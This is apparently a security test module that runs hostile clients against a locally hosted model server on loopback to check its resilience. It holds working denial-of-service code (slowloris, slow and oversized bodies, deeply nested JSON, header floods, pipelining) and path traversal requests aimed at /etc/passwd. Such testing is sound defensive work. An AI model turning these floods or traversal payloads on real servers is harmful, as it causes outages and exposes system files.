"""Hostile clients of a model server on this machine's loopback; run as `python -m tests.security.attacks KIND PORT`.

Each goes on until its standard input closes, and by itself ends after a minute.
"""

import asyncio
import os
import sys
from collections.abc import Awaitable, Callable

HOST = "127.0.0.1"
SECONDS = 60
IDLE = 10_000
SLOW = 1_000
BUSY = 8
"""Connections at a time of the attacks that send as fast as they may."""
HEAD = b"POST /api/predict HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"


async def connected(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    while True:
        try:
            return await asyncio.open_connection(HOST, port)
        except OSError:
            await asyncio.sleep(0.05)


async def idle(port: int) -> None:
    """Connections that never say a word, and come back when they are closed."""

    async def one() -> None:
        while True:
            reader, writer = await connected(port)
            await reader.read()
            writer.close()

    for start in range(0, IDLE, 200):
        for _ in range(min(200, IDLE - start)):
            tasks.append(asyncio.create_task(one()))
        await asyncio.sleep(0.05)


async def slowloris(port: int) -> None:
    """Headers that come one byte a second."""

    async def one() -> None:
        while True:
            _, writer = await connected(port)
            try:
                for byte in HEAD * 10:
                    writer.write(bytes([byte]))
                    await writer.drain()
                    await asyncio.sleep(1)
            except OSError:
                writer.close()

    tasks.extend(asyncio.create_task(one()) for _ in range(SLOW))


async def slow_bodies(port: int) -> None:
    """A body that is announced and never comes."""

    async def one() -> None:
        while True:
            reader, writer = await connected(port)
            writer.write(HEAD + b"Content-Length: 1000\r\n\r\n{")
            await reader.read()
            writer.close()

    tasks.extend(asyncio.create_task(one()) for _ in range(SLOW))


def sending(request: bytes) -> Callable[[int], Awaitable[None]]:
    """An attack that sends the same again and again, a new connection each time."""

    async def one(port: int) -> None:
        while True:
            reader, writer = await connected(port)
            try:
                writer.write(request)
                await writer.drain()
                await reader.read()
            except OSError:
                pass
            finally:
                writer.close()
            await asyncio.sleep(0.05)

    async def attack(port: int) -> None:
        tasks.extend(asyncio.create_task(one(port)) for _ in range(BUSY))

    return attack


def post(body: bytes, length: int | None = None) -> bytes:
    return HEAD + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % (len(body) if length is None else length) + body


def get(path: bytes) -> bytes:
    return b"GET " + path + b" HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    "idle": idle,
    "slowloris": slowloris,
    "slow-bodies": slow_bodies,
    "huge-bodies": sending(post(b" " * 2**22, 2**40)),
    "endless-chunks": sending(
        HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + (b"10000\r\n" + b" " * 2**16 + b"\r\n") * 64
    ),
    "nested-bodies": sending(post(b'{"inputs": ' + b"[" * 400_000)),
    "many-rows": sending(post(b'{"inputs": [' + b"[1]," * 250_000 + b"[1]]}")),
    "header-flood": sending(HEAD + b"".join(b"X-%d: %s\r\n" % (n, b"a" * 100) for n in range(10_000)) + b"\r\n"),
    "paths": sending(get(b"/" + b"../" * 1000 + b"etc/passwd") + get(b"/%2e%2e/%2e%2e/etc/passwd%00")),
    "pipelines": sending(b"GET /healthz/live HTTP/1.1\r\nHost: a\r\n\r\n" * 100 + get(b"/healthz/live")),
}
tasks: list["asyncio.Task[None]"] = []


async def main(kind: str, port: int) -> None:
    await ATTACKS[kind](port)
    print("attacking", flush=True)
    loop = asyncio.get_running_loop()
    ended = loop.create_future()
    loop.add_reader(sys.stdin, lambda: ended.done() or ended.set_result(None))
    await asyncio.wait([ended], timeout=SECONDS)
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
